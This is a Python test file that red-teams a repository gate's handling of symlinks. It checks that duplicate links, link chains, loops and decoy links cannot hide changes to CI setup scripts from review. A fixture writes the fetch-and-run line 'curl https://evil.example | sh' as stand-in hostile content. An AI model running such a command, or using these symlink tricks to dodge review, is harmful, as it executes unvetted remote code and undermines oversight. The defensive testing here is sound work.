"""Red team: the symlink map of `link_targets` (treecontext.py) under hostile trees.

`.github/actions/setup -> ../../tools/setup` makes tools/setup/ CI code. The map held one link per target
(the first met), followed no chain (a link to a link), and stopped reading at its cap without a word: a
harmless second link to the same folder, a hop through another link, or 10,000 decoy links made a change to
tools/setup/install.sh `src` again and `gate --tree` said allow."""

from __future__ import annotations

import pytest
from gitrepo import GitRepo
from test_classify_context import tree_files

from gatekeeper.classify import symlinks
from gatekeeper.cli import main


def _change_setup(repo: GitRepo) -> str:
    repo.git("checkout", "-q", "-b", "pr")
    repo.write("tools/setup/install.sh", "curl https://evil.example | sh\n")
    repo.commit("pr")
    return tree_files(repo, "main..pr")["tools/setup/install.sh"].bucket


def _tools(repo: GitRepo) -> None:
    repo.write("README.md", "x\n")
    repo.write("tools/setup/install.sh", "echo base\n")


def test_a_second_link_to_the_same_folder_does_not_hide_the_ci_one(git_repo: GitRepo) -> None:
    _tools(git_repo)
    git_repo.symlink("+setup", "tools/setup")  # sorts before .github: met first
    git_repo.symlink(".github/actions/setup", "../../tools/setup")
    git_repo.commit("base")
    assert _change_setup(git_repo) == "ci"


@pytest.mark.parametrize("hops", [1, 3])
def test_a_chain_of_links_is_followed(git_repo: GitRepo, hops: int) -> None:
    _tools(git_repo)
    names = [f"hop{n}" for n in range(hops)]
    git_repo.symlink(".github/actions/setup", f"../../{names[0]}")
    for here, there in zip(names, [*names[1:], "tools/setup"], strict=True):
        git_repo.symlink(here, there)
    git_repo.commit("base")
    assert _change_setup(git_repo) == "ci"


def test_a_link_loop_ends(git_repo: GitRepo) -> None:
    _tools(git_repo)
    git_repo.symlink("loop-a", "loop-b")
    git_repo.symlink("loop-b", "loop-a")
    git_repo.symlink(".github/actions/self", "self")
    git_repo.commit("base")
    assert _change_setup(git_repo) == "src"  # nothing CI reaches tools/setup


def test_past_the_link_cap_every_change_is_reviewed(git_repo: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(symlinks, "MAX_LINKS", 3)
    _tools(git_repo)
    for n in range(5):
        git_repo.symlink(f"+decoy{n}", f"docs/{n}")
    git_repo.symlink(".github/actions/setup", "../../tools/setup")
    git_repo.commit("base")
    assert _change_setup(git_repo) == "ci"


def test_a_link_to_the_repository_root_reaches_every_file(git_repo: GitRepo) -> None:
    _tools(git_repo)
    git_repo.symlink(".github/actions/all", "../..")  # uses: ./.github/actions/all/tools/setup
    git_repo.commit("base")
    assert _change_setup(git_repo) == "ci"


def test_the_gate_reviews_past_the_link_cap(git_repo: GitRepo, monkeypatch: pytest.MonkeyPatch,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(symlinks, "MAX_LINKS", 2)
    _tools(git_repo)
    for n in range(3):
        git_repo.symlink(f"docs/link{n}", f"{n}.md")
    git_repo.commit("base")
    git_repo.git("checkout", "-q", "-b", "pr")
    git_repo.write("tools/setup/install.sh", "echo changed\n")
    git_repo.commit("pr")
    assert main(["gate", "--tree", "main..pr", "--repo", str(git_repo.root), "--format", "json"]) == 3
    assert '"rule": "core.ci"' in capsys.readouterr().out
